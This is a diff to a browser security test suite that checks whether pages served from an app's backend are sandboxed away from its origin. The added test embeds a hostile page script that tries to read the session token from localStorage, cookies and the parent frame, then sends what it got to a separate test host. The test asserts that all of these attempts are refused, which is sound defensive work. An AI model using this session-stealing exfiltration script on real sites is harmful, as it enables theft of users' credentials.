@@ -31,6 +31,8 @@ const RECOVERY = { timeout: 20_000, interval: 100 };
 
 const origin = new FaultOrigin();
 const sockets = new SocketOrigin();
+/** A host that may be framed (setting FRAME_ORIGINS), and where hostile pages send what they have read. */
+const elsewhere = new FaultOrigin();
 let browser: Browser;
 let dataDir = "";
 let server: Server;
@@ -38,6 +40,7 @@ let server: Server;
 beforeAll(async () => {
   await origin.start();
   await sockets.start();
+  await elsewhere.start();
   dataDir = mkdtempSync(join(tmpdir(), "rangoli-hostile-app-"));
   server = await startServer({
     port: 0,
@@ -46,6 +49,8 @@ beforeAll(async () => {
       UPSTREAM_ORIGIN: origin.url,
       UPSTREAM_AVIATOR: `${sockets.url.replace("http", "ws")}/aviator`,
       UPSTREAM_TIMEOUT_MS: "1500",
+      UPSTREAM_PAGES: "/pages/",
+      FRAME_ORIGINS: elsewhere.url,
       RATE_LIMITS: NO_LIMITS,
       CONTROL_TOKEN: "",
     },
@@ -59,6 +64,7 @@ afterAll(async () => {
   await server.stop();
   await origin.stop();
   await sockets.stop();
+  await elsewhere.stop();
   rmSync(dataDir, { recursive: true, force: true });
 });
 
@@ -69,11 +75,13 @@ beforeEach(async () => {
   await vi.waitUntil(isWell, RECOVERY);
 });
 
+const TOKEN = "120007.c2VjcmV0LXNlY3JldC1zZWNyZXQ";
+
 /** A member's phone at a path, and what must not happen on it. */
 async function open(path: string, locale: Locale): Promise<{ page: Page; harm: string[] }> {
   const context = await openPhone(browser, { reducedMotion: "reduce" });
   const session = {
-    token: "120007.c2VjcmV0LXNlY3JldC1zZWNyZXQ",
+    token: TOKEN,
     nickName: "",
     mobile: "",
     userId: "",
@@ -206,4 +214,65 @@ describe("a game in front of a socket of the backend", () => {
     expect(harm).toEqual([]);
     await page.context().close();
   });
+});
+
+describe("a hostile page of the backend", () => {
+  const ANY = "default-src * 'unsafe-inline' data: blob:";
+  /** Tries to read the session as the app's own script would, and sends elsewhere what came of it. */
+  const thief = () => `<!doctype html><title>pay</title><script type="module">
+    const tries = [
+      () => localStorage.getItem("rangoli.session"),
+      () => parent.localStorage.getItem("rangoli.session"),
+      () => document.cookie,
+      () => parent.document.cookie,
+      () => navigator.serviceWorker.register("/pages/worker.js"),
+      () => fetch("/user/profile", { headers: { authorization: "Token ${TOKEN}" } }),
+    ];
+    const got = [];
+    for (const each of tries) {
+      try { got.push("got " + await each()); } catch (error) { got.push(error.name); }
+    }
+    const own = await fetch("/pages/own.json").then((answer) => answer.text(), () => "none");
+    fetch("${elsewhere.url}/told?" + new URLSearchParams({ got, own, origin: self.origin }), { mode: "no-cors" });
+  </script>`;
+
+  it.each([
+    ["without a policy that lets its script run", 200, ANY],
+    ["that asks for the app's origin", 200, `sandbox allow-scripts allow-same-origin; ${ANY}`],
+    ["with two policies", 200, `${ANY}, sandbox allow-scripts allow-same-origin`],
+    ["that is not found", 404, ANY],
+  ])(
+    "%s (%i) runs without the app's origin, opened or framed by a host that may be framed",
+    async (_, status, policy) => {
+      const headers = { "content-type": "text/html", "content-security-policy": policy };
+      origin.answerWith((request, response) => {
+        const { pathname } = new URL(request.url ?? "", server.url);
+        const home = { notice_content: "", queryset: [], more_game_list: [], in_out_game_list: [] };
+        if (pathname === "/pages/own.json") return replies.text("its own", 200, json)(request, response);
+        if (pathname.startsWith("/pages/")) return replies.text(thief(), status, headers)(request, response);
+        return envelope({ ...home, livechat_url: `${elsewhere.url}/chat` })(request, response);
+      });
+      const away = `<!doctype html><script>location = "${server.url}/pages/framed"</script>`;
+      elsewhere.answerWith(replies.text(away, 200, { "content-type": "text/html" }));
+      const told = () => elsewhere.asked.map(({ url }) => url).filter((url) => url.startsWith("/told?"));
+      const refused = [
+        "SecurityError",
+        "SecurityError",
+        "SecurityError",
+        "SecurityError",
+        "SecurityError",
+        "TypeError",
+      ];
+      const safe = { got: refused.join(","), own: "its own", origin: "null" };
+
+      const { page } = await open("/contactSupport", "in");
+      await expect.poll(told, RECOVERY).toHaveLength(1);
+      await page.goto(`${server.url}/pages/opened`);
+      await expect.poll(told, RECOVERY).toHaveLength(2);
+      const heard = told().map((url) => Object.fromEntries(new URL(url, elsewhere.url).searchParams));
+      expect(heard).toEqual([safe, safe]);
+      expect(JSON.stringify(elsewhere.asked)).not.toContain(TOKEN);
+      await page.context().close();
+    },
+  );
 });
